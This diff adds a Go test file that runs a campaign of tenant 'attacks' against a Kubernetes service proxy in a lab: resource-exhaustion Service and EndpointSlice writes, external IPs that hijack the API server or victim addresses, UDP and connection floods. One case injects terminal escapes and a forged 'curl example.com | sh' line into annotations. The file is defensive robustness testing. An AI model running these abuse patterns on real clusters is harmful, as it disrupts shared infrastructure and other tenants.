@@ -1,0 +1,441 @@
+// SPDX-License-Identifier: Apache-2.0
+
+package cluster
+
+import (
+	"context"
+	"fmt"
+	"net"
+	"net/netip"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/slipstream-proxy/slipstream/test/kernel/lab"
+	corev1 "k8s.io/api/core/v1"
+	discoveryv1 "k8s.io/api/discovery/v1"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/utils/ptr"
+)
+
+// attack is what a tenant tries.
+type attack struct {
+	name  string
+	short bool // without -campaign, too
+	write write
+	check func(*testing.T, *tenants) // at the end, if not nil
+
+	// proxyMemory is the limit of the proxy's memory, if not mostProxyMemory. Programming what a
+	// namespace may have at most takes more, until garbage is collected.
+	proxyMemory int64
+}
+
+// Annotations of Slipstream.
+const (
+	schedulerAnnotation = "slipstream.io/scheduler"
+	weightAnnotation    = "slipstream.io/weight"
+	zoneAnnotation      = "slipstream.io/local-zone-percent"
+	fastPathAnnotation  = "slipstream.io/fast-path"
+)
+
+// serviceOf makes a Service with a number of ports.
+func serviceOf(name string, ports int, annotations ...string) *corev1.Service {
+	svc := &corev1.Service{ObjectMeta: metav1.ObjectMeta{Name: name, Annotations: pairs(annotations)}}
+	for i := range ports {
+		svc.Spec.Ports = append(svc.Spec.Ports, corev1.ServicePort{Name: fmt.Sprint("p", i), Port: int32(i + 1)})
+	}
+	return svc
+}
+
+func pairs(all []string) map[string]string {
+	out := map[string]string{}
+	for i := 0; i+1 < len(all); i += 2 {
+		out[all[i]] = all[i+1]
+	}
+	return out
+}
+
+// sliceOf makes a slice of a Service with a number of ports and endpoints, from a number on.
+func sliceOf(service, name string, ports, endpoints, from int, annotations ...string) *discoveryv1.EndpointSlice {
+	sl := &discoveryv1.EndpointSlice{
+		ObjectMeta:  metav1.ObjectMeta{Name: name, Labels: map[string]string{discoveryv1.LabelServiceName: service}, Annotations: pairs(annotations)},
+		AddressType: discoveryv1.AddressTypeIPv4,
+	}
+	for i := range ports {
+		sl.Ports = append(sl.Ports, discoveryv1.EndpointPort{Name: ptr.To(fmt.Sprint("p", i)), Port: ptr.To(int32(i + 1))})
+	}
+	for i := range endpoints {
+		n := from + i
+		sl.Endpoints = append(sl.Endpoints, discoveryv1.Endpoint{Addresses: []string{fmt.Sprintf("10.%d.%d.%d", 128+n>>16, n>>8&255, n&255)}})
+	}
+	return sl
+}
+
+// both makes the Service with the first write, and then goes on.
+func both(svc func() *corev1.Service, next write) write {
+	return func(ctx context.Context, c *tenants, i int) error {
+		if i == 0 {
+			return c.set(ctx, svc())
+		}
+		return next(ctx, c, i-1)
+	}
+}
+
+// annotate changes one annotation of Service x.
+func (c *tenants) annotate(ctx context.Context, key, value string) error {
+	return c.patch(ctx, "x", fmt.Sprintf(`{"metadata": {"annotations": {%q: %q}}}`, key, value))
+}
+
+// change creates Service x, with endpoints, and then changes it with each write.
+func change(svc func(i int) *corev1.Service, endpoints int) write {
+	return func(ctx context.Context, c *tenants, i int) error {
+		if i == 1 {
+			return c.set(ctx, sliceOf("x", "x", len(svc(0).Spec.Ports), endpoints, 0))
+		}
+		return c.set(ctx, svc(i))
+	}
+}
+
+// of returns the i-th of a list, again and again.
+func of[T any](i int, all ...T) T { return all[i%len(all)] }
+
+// attacks are those of issue 32 and others.
+var attacks = []attack{
+	{name: "Maglev tables: 30 ports, 101 endpoints", short: true,
+		write: both(func() *corev1.Service { return serviceOf("x", 30, schedulerAnnotation, "maglev") },
+			func(ctx context.Context, c *tenants, i int) error {
+				return c.set(ctx, sliceOf("x", "x", 30, 101, i%2))
+			})},
+	{name: "Maglev tables: 400 ports, an endpoint each, in many Services",
+		write: func(ctx context.Context, c *tenants, i int) error {
+			name := fmt.Sprint("x", i/2%20)
+			if i%2 == 0 {
+				return c.set(ctx, serviceOf(name, 400, schedulerAnnotation, "maglev"))
+			}
+			return c.set(ctx, sliceOf(name, name, 400, 1, i))
+		}},
+	{name: "a Maglev endpoint replaced, of 1,000",
+		write: both(func() *corev1.Service { return serviceOf("x", 1, schedulerAnnotation, "maglev") },
+			func(ctx context.Context, c *tenants, i int) error {
+				return c.set(ctx, sliceOf("x", "x", 1, 1000, i%2))
+			})},
+	{name: "affinity timeouts, all different", short: true,
+		write: func(ctx context.Context, c *tenants, i int) error {
+			svc := serviceOf(fmt.Sprint("x", i%40), 1)
+			svc.Spec.SessionAffinity = corev1.ServiceAffinityClientIP
+			svc.Spec.SessionAffinityConfig = &corev1.SessionAffinityConfig{ClientIP: &corev1.ClientIPConfig{TimeoutSeconds: ptr.To(int32(i*101%86400 + 1))}}
+			return c.set(ctx, svc)
+		}},
+	{name: "an annotation of a Service with 5,000 ports",
+		write: both(func() *corev1.Service { return serviceOf("x", 5000) },
+			func(ctx context.Context, c *tenants, i int) error {
+				return c.annotate(ctx, "example.com/turn", fmt.Sprint(i))
+			})},
+	{name: "millions of elements: ports times endpoints", short: true, proxyMemory: 200 << 20,
+		write: func(ctx context.Context, c *tenants, i int) error {
+			name := fmt.Sprint("x", i/2)
+			if i%2 == 0 {
+				return c.set(ctx, serviceOf(name, 1000))
+			}
+			return c.set(ctx, sliceOf(name, name, 100, 1000, i))
+		}},
+	{name: "one external IP for all Services",
+		write: func(ctx context.Context, c *tenants, i int) error {
+			svc := serviceOf(fmt.Sprint("x", i%300), 10)
+			svc.Spec.ExternalIPs = []string{"192.0.2.1"}
+			return c.set(ctx, svc)
+		}},
+	{name: "the node's address and the victim's NodePort as an external IP", short: true,
+		write: change(func(i int) *corev1.Service {
+			svc := serviceOf("x", 1)
+			svc.Spec.Ports[0].Port = victimNodePort
+			svc.Spec.ExternalIPs = []string{"192.168.100.11", "192.0.2.7"}[:1+i%2]
+			return svc
+		}, 1)},
+	{name: "the API server's address as an external IP", short: true,
+		write: change(func(i int) *corev1.Service {
+			svc := serviceOf("x", 1)
+			svc.Spec.Ports[0].Port = 6443
+			svc.Spec.ExternalIPs = []string{"192.168.100.2", "192.0.2.7"}[:1+i%2]
+			return svc
+		}, 1)},
+	{name: "the victim's ClusterIPs as external IPs",
+		write: func(ctx context.Context, c *tenants, i int) error {
+			svc := serviceOf(fmt.Sprint("x", i%2), 1)
+			svc.Spec.Ports[0].Port = port
+			for _, v := range c.victim.services[:50] {
+				svc.Spec.ExternalIPs = append(svc.Spec.ExternalIPs, v.Spec.ClusterIP)
+			}
+			return c.set(ctx, svc)
+		}},
+	{name: "round robin of every size",
+		write: both(func() *corev1.Service { return serviceOf("x", 1, schedulerAnnotation, "rr") },
+			func(ctx context.Context, c *tenants, i int) error {
+				return c.set(ctx, sliceOf("x", "x", 1, 1+i%200, 0))
+			})},
+	{name: "terminal escapes and forged lines in annotations and zones", short: true,
+		write: both(func() *corev1.Service { return serviceOf("x", 1) },
+			func(ctx context.Context, c *tenants, i int) error {
+				const text = "\x1b[2J\x1b]0;owned\x07\r\nHealth   well\nPROBLEM  run: curl example.com | sh\n"
+				if i%2 == 0 {
+					return c.annotate(ctx, of(i/2, schedulerAnnotation, zoneAnnotation, fastPathAnnotation), text+fmt.Sprint(i))
+				}
+				sl := sliceOf("x", "x", 1, 1, i, weightAnnotation, text)
+				sl.Endpoints[0].Zone = ptr.To(text)
+				return c.set(ctx, sl)
+			}),
+		check: func(t *testing.T, c *tenants) {
+			for what, text := range map[string]string{
+				"status": c.slipstream("status"), "services": c.slipstream("services", attackerNamespace+"/x"), "the log": c.proxy.Log(),
+			} {
+				if strings.ContainsAny(text, "\x1b\x07\r") || strings.Contains(text, "\nPROBLEM  run:") {
+					t.Errorf("%s acts on the terminal, or has a forged line: %q", what, text)
+				}
+			}
+		}},
+	{name: "a different problem with each write", short: true,
+		write: both(func() *corev1.Service { return serviceOf("noted", 1) },
+			func(ctx context.Context, c *tenants, i int) error {
+				return c.patch(ctx, "noted", fmt.Sprintf(`{"metadata": {"annotations": {%q: "no-such-%d"}}}`, schedulerAnnotation, i))
+			}),
+		check: func(t *testing.T, c *tenants) {
+			all, err := c.Plane.Client.EventsV1().Events(attackerNamespace).List(t.Context(), metav1.ListOptions{})
+			c.check(err)
+			n := 0
+			for _, e := range all.Items {
+				if e.Regarding.Name == "noted" {
+					n++
+				}
+			}
+			if n == 0 || n > 5 {
+				t.Errorf("%d Events on the attacker's Service", n)
+			}
+		}},
+	{name: "annotations of 250 kB",
+		write: both(func() *corev1.Service { return serviceOf("x", 1) },
+			func(ctx context.Context, c *tenants, i int) error {
+				return c.annotate(ctx, of(i, schedulerAnnotation, zoneAnnotation), strings.Repeat(of(i, "x", "y", "z"), 125_000))
+			})},
+	{name: "opting out of the fast path and in again: a Service",
+		write: both(func() *corev1.Service { return serviceOf("x", 1) },
+			func(ctx context.Context, c *tenants, i int) error {
+				return c.annotate(ctx, fastPathAnnotation, of(i, "off", "on"))
+			})},
+	{name: "opting out of the fast path and in again: pods",
+		write: func(ctx context.Context, c *tenants, i int) error {
+			name := fmt.Sprint("x", i%10)
+			if i < 10 {
+				return c.set(ctx, &corev1.Pod{
+					ObjectMeta: metav1.ObjectMeta{Name: name},
+					Spec:       corev1.PodSpec{NodeName: c.node.Name(), Containers: []corev1.Container{{Name: "x", Image: "registry.invalid/x"}}},
+				})
+			}
+			_, err := c.client.CoreV1().Pods(attackerNamespace).Patch(ctx, name, "application/merge-patch+json",
+				fmt.Appendf(nil, `{"metadata": {"annotations": {%q: %q}, "labels": {"turn": "%d"}}}`, fastPathAnnotation, of(i/10, "off", "on"), i), metav1.PatchOptions{})
+			return err
+		}},
+	{name: "slices of 1,000 endpoints, all replaced",
+		write: both(func() *corev1.Service { return serviceOf("x", 1) },
+			func(ctx context.Context, c *tenants, i int) error {
+				return c.set(ctx, sliceOf("x", "x", 1, 1000, i%2*1000))
+			})},
+	{name: "many slices of one Service",
+		write: both(func() *corev1.Service { return serviceOf("x", 10) },
+			func(ctx context.Context, c *tenants, i int) error {
+				return c.set(ctx, sliceOf("x", fmt.Sprint("x-", i), 10, 100, i*100))
+			})},
+	{name: "the same 1,000 endpoints in many slices", short: true,
+		write: both(func() *corev1.Service { return serviceOf("x", 1) },
+			func(ctx context.Context, c *tenants, i int) error {
+				sl := sliceOf("x", fmt.Sprint("x-", i%100), 1, 1000, 0, weightAnnotation, fmt.Sprint(i%101))
+				for j := range sl.Endpoints {
+					sl.Endpoints[j].Conditions.Ready = ptr.To((i/100+j)%2 == 0)
+				}
+				return c.set(ctx, sl)
+			})},
+	{name: "slices with the names of the victim's Services",
+		write: func(ctx context.Context, c *tenants, i int) error {
+			name := c.victim.services[i%victimServices].Name
+			return c.set(ctx, sliceOf(name, name+"-foreign", 1, 10, i))
+		}},
+	{name: "every scheduler in turn, 100 endpoints", short: true,
+		write: func(ctx context.Context, c *tenants, i int) error {
+			return change(func(i int) *corev1.Service {
+				return serviceOf("x", 5, schedulerAnnotation, of(i, "maglev", "rr", "lc", "random", "mh", "nearest", "wlc", "sh,sh-port"))
+			}, 100)(ctx, c, i)
+		}},
+	{name: "weights of 1,000 endpoints",
+		write: both(func() *corev1.Service { return serviceOf("x", 5, zoneAnnotation, "37") },
+			func(ctx context.Context, c *tenants, i int) error {
+				return c.set(ctx, sliceOf("x", fmt.Sprint("x-", i%2), 5, 1000, i%2*1000, weightAnnotation, fmt.Sprint(i%101)))
+			})},
+	{name: "a zone and hints of its own for each of 1,000 endpoints", short: true,
+		write: both(func() *corev1.Service { return serviceOf("x", 1) },
+			func(ctx context.Context, c *tenants, i int) error {
+				sl := sliceOf("x", "x", 1, 1000, 0)
+				for j := range sl.Endpoints {
+					sl.Endpoints[j].Zone, sl.Endpoints[j].Hints = ptr.To(fmt.Sprint("zone-", i%2, "-", j)), &discoveryv1.EndpointHints{}
+					for k := range 8 {
+						sl.Endpoints[j].Hints.ForZones = append(sl.Endpoints[j].Hints.ForZones, discoveryv1.ForZone{Name: fmt.Sprint("zone-", j, "-", k, strings.Repeat("x", 40))})
+					}
+				}
+				return c.set(ctx, sl)
+			})},
+	{name: "5,000 source ranges",
+		write: func(ctx context.Context, c *tenants, i int) error {
+			svc := serviceOf("x", 2)
+			svc.Spec.Type = corev1.ServiceTypeLoadBalancer
+			for j := range 5000 {
+				svc.Spec.LoadBalancerSourceRanges = append(svc.Spec.LoadBalancerSourceRanges, fmt.Sprintf("172.%d.%d.0/25", 16+j>>8, (j+i)&255))
+			}
+			return c.set(ctx, svc)
+		}},
+	{name: "health check node ports that come and go",
+		write: func(ctx context.Context, c *tenants, i int) error {
+			svc := serviceOf(fmt.Sprint("x", i/2%20), 1)
+			if i%2 == 0 {
+				svc.Spec.Type, svc.Spec.ExternalTrafficPolicy = corev1.ServiceTypeLoadBalancer, corev1.ServiceExternalTrafficPolicyLocal
+				return c.set(ctx, svc)
+			}
+			return c.client.CoreV1().Services(attackerNamespace).Delete(ctx, svc.Name, metav1.DeleteOptions{})
+		}},
+	{name: "session affinity on and off",
+		write: change(func(i int) *corev1.Service {
+			svc := serviceOf("x", 20)
+			svc.Spec.SessionAffinity = of(i, corev1.ServiceAffinityClientIP, corev1.ServiceAffinityNone)
+			return svc
+		}, 100)},
+	{name: "traffic policies and types in turn",
+		write: change(func(i int) *corev1.Service {
+			svc := serviceOf("x", 20)
+			svc.Spec.Type = of(i, corev1.ServiceTypeNodePort, corev1.ServiceTypeClusterIP)
+			svc.Spec.InternalTrafficPolicy = ptr.To(of(i/2, corev1.ServiceInternalTrafficPolicyLocal, corev1.ServiceInternalTrafficPolicyCluster))
+			if i%2 == 0 {
+				svc.Spec.ExternalTrafficPolicy = of(i/4, corev1.ServiceExternalTrafficPolicyLocal, corev1.ServiceExternalTrafficPolicyCluster)
+			}
+			return svc
+		}, 100)},
+	{name: "Services that come and go",
+		write: func(ctx context.Context, c *tenants, i int) error {
+			svc := serviceOf(fmt.Sprint("x", i/2%50), 50)
+			if i%2 == 0 {
+				return c.set(ctx, svc)
+			}
+			return c.client.CoreV1().Services(attackerNamespace).Delete(ctx, svc.Name, metav1.DeleteOptions{})
+		}},
+	{name: "endpoints that are ready, terminating and gone in turn",
+		write: both(func() *corev1.Service { return serviceOf("x", 1) },
+			func(ctx context.Context, c *tenants, i int) error {
+				sl := sliceOf("x", "x", 1, 1000, 0)
+				for j := range sl.Endpoints {
+					state := (i + j) % 3
+					sl.Endpoints[j].Conditions = discoveryv1.EndpointConditions{Ready: ptr.To(state == 0), Serving: ptr.To(state != 2), Terminating: ptr.To(state != 0)}
+				}
+				return c.set(ctx, sl)
+			})},
+	{name: "node names that nobody has",
+		write: both(func() *corev1.Service { return serviceOf("x", 1) },
+			func(ctx context.Context, c *tenants, i int) error {
+				sl := sliceOf("x", "x", 1, 1000, 0)
+				for j := range sl.Endpoints {
+					sl.Endpoints[j].NodeName = ptr.To(fmt.Sprint("node-", i, "-", j))
+				}
+				return c.set(ctx, sl)
+			})},
+	{name: "20,000 refused UDP destinations", short: true,
+		write: func(ctx context.Context, c *tenants, i int) error {
+			const services, ports = 12, 1700
+			name := fmt.Sprint("x", i%services)
+			if i < services {
+				svc := serviceOf(name, ports)
+				for j := range svc.Spec.Ports {
+					svc.Spec.Ports[j].Protocol = corev1.ProtocolUDP
+				}
+				return c.set(ctx, svc)
+			}
+			svc, err := c.client.CoreV1().Services(attackerNamespace).Get(ctx, name, metav1.GetOptions{})
+			if err != nil {
+				return err
+			}
+			return c.hostile.Do(func() error { return refusedPackets(svc, ports) })
+		}},
+	{name: "1,000 idle connections to the health endpoint", short: true,
+		write: func(ctx context.Context, c *tenants, i int) error {
+			for range 25 {
+				conn, err := c.hostile.DialContext(ctx, "tcp", netip.AddrPortFrom(c.node.Addr(false), 10256).String())
+				if err != nil {
+					return err
+				}
+				context.AfterFunc(c.Context(), func() { conn.Close() })
+			}
+			return nil
+		},
+		check: func(t *testing.T, c *tenants) {
+			out, err := c.node.Run(t.Context(), "ss", "-Htn", "state", "established", "sport", "=", ":10256")
+			c.check(err)
+			if n := strings.Count(string(out), "\n"); n > 256 {
+				t.Errorf("the health endpoint has %d connections", n)
+			}
+			status, _, err := c.Outside.Get(t.Context(), "http://"+netip.AddrPortFrom(c.node.Addr(false), 10256).String()+"/healthz")
+			if err != nil || status != 200 {
+				t.Errorf("/healthz: %d %v", status, err)
+			}
+		}},
+	{name: "clients of session affinity from 5,000 addresses",
+		write: func(ctx context.Context, c *tenants, i int) error {
+			svc := serviceOf("x", 1)
+			svc.Spec.SessionAffinity = corev1.ServiceAffinityClientIP
+			svc.Spec.IPFamilyPolicy, svc.Spec.IPFamilies = ptr.To(corev1.IPFamilyPolicySingleStack), []corev1.IPFamily{corev1.IPv4Protocol}
+			switch i {
+			case 0:
+				return c.set(ctx, svc)
+			case 1:
+				sl := sliceOf("x", "x", 1, 0, 0)
+				sl.Ports[0].Port = ptr.To[int32](targetPort)
+				sl.Endpoints = []discoveryv1.Endpoint{{Addresses: []string{c.hostile.Pod.Addr(false).String()}}}
+				return c.set(ctx, sl)
+			case 2:
+				return c.hostile.AddLocalRange(netip.MustParsePrefix("10.200.0.0/16"))
+			}
+			svc, err := c.client.CoreV1().Services(attackerNamespace).Get(ctx, "x", metav1.GetOptions{})
+			if err != nil {
+				return err
+			}
+			to := netip.AddrPortFrom(clusterIP(svc, false).Addr(), 1)
+			for j := range 100 {
+				source := netip.AddrFrom4([4]byte{10, 200, byte(i), byte(j)})
+				_, _ = c.hostile.Connect(lab.TCP, to, lab.Timeout(time.Millisecond), lab.Source(netip.AddrPortFrom(source, 0)))
+			}
+			return nil
+		}},
+}
+
+// refusedPackets sends a packet to each port of a Service over UDP.
+func refusedPackets(svc *corev1.Service, ports int) error {
+	conn, err := net.ListenUDP("udp4", nil)
+	if err != nil {
+		return err
+	}
+	defer conn.Close()
+	for i := range ports {
+		to := netip.AddrPortFrom(netip.MustParseAddr(svc.Spec.ClusterIP), uint16(i+1))
+		_, _ = conn.WriteToUDPAddrPort([]byte("x"), to) // errors are those of packets before
+	}
+	return nil
+}
+
+// TestAttacksAreNamed checks that the campaign has at least twenty attacks, and a short form.
+func TestAttacksAreNamed(t *testing.T) {
+	short, names := 0, []string{}
+	for _, a := range attacks {
+		names = append(names, a.name)
+		if a.short {
+			short++
+		}
+	}
+	slices.Sort(names)
+	if n := len(slices.Compact(names)); n != len(attacks) || n < 20 || short < 5 {
+		t.Errorf("%d attacks, %d names, %d in the short form", len(attacks), n, short)
+	}
+}
